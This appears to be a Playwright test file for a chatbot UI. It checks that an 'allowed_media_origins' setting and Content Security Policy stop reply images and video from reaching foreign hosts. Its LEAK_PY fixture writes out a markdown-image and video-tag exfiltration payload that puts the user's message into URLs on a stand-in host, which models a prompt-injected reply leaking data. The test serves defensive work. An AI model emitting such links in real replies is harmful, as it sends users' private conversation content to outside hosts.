"""`allowed_media_origins` in Chromium: a reply's images and video from another host load only
when the config lets them, so a prompt-injected reply cannot send what it read to a host it
names."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from browsing import expect, log, send

if TYPE_CHECKING:
    from playwright.sync_api import Page, Route

PNG = Path(__file__).resolve().parent.parent / "configs" / "assets" / "landscape.png"

LEAK_PY = """
def leak(message, history):
    return (
        f"Sure! ![chart](https://images.example.test/chart.png?q={message}) "
        f'<video src="https://images.example.test/clip.mp4?q={message}"></video>'
    )
"""

WATCH_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(event.blockedURI);
});
"""


def leaked_reply(open_bot, yaml: str) -> tuple[Page, list[str]]:
    """The bot's page after one reply, and the requests that reached the foreign host (a
    local image answers them)."""
    page = open_bot(f"fn: bot.py:leak\n{yaml}", bot_py=LEAK_PY)
    fetched: list[str] = []

    def serve(route: Route) -> None:
        fetched.append(route.request.url)
        route.fulfill(path=PNG)

    page.route("https://images.example.test/**", serve)
    page.add_init_script(WATCH_VIOLATIONS)
    page.reload()  # watched from the first paint on
    send(page, "the-secret")
    expect(log(page).get_by_role("img", name="chart")).to_be_attached()
    return page, fetched


@pytest.mark.parametrize(
    "yaml",
    ["", "allowed_media_origins: [https://images.example.test]\n"],
    ids=["default", "listed"],
)
def test_an_image_from_an_allowed_host_loads(open_bot, yaml: str) -> None:
    page, fetched = leaked_reply(open_bot, yaml)
    image = log(page).get_by_role("img", name="chart")
    page.wait_for_function(
        "(image) => image.complete && image.naturalWidth > 0", arg=image.element_handle()
    )
    assert "https://images.example.test/chart.png?q=the-secret" in fetched
    assert page.evaluate("window.violations") == []


def test_images_and_video_from_other_hosts_are_never_requested(open_bot) -> None:
    page, fetched = leaked_reply(open_bot, "allowed_media_origins: []\n")
    page.wait_for_function("window.violations.length === 2")
    assert sorted(page.evaluate("window.violations")) == [
        "https://images.example.test/chart.png?q=the-secret",
        "https://images.example.test/clip.mp4?q=the-secret",
    ]
    image = log(page).get_by_role("img", name="chart")
    assert image.evaluate("(image) => image.naturalWidth") == 0
    assert fetched == []
